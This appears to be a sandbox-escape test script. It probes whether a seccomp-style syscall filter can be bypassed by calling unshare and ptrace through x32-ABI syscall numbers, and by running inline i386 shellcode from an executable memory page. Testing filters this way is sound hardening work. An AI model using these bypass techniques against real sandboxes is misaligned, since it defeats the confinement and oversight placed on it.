# Tries: to make calls with the numbers of other tables (x32, i386), past the filter.
# Success: one of them works.
import ctypes
import mmap
import os

import host

X32 = 0x40000000
if host.syscall(X32 + 272, 0x10000000) == 0 or host.syscall(X32 + 101, 16, os.getppid(), 0, 0) == 0:
    host.escaped("x32")
# mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; ret
code = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
if call() == 0:
    host.escaped("i386")
